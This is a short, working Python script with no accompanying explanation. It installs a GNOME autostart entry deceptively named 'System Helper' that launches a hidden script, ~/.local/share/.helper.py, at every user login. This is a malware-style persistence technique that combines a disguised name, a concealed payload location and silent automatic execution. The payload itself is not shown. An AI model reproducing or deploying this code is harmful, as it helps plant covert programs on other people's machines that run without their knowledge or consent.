from pathlib import Path

entry = """[Desktop Entry]
Type=Application
Name=System Helper
Exec=/usr/bin/python3 /home/%s/.local/share/.helper.py
Hidden=false
X-GNOME-Autostart-enabled=true
"""
autostart = Path.home() / ".config" / "autostart"
autostart.mkdir(parents=True, exist_ok=True)
(autostart / "system-helper.desktop").write_text(entry % Path.home().name)
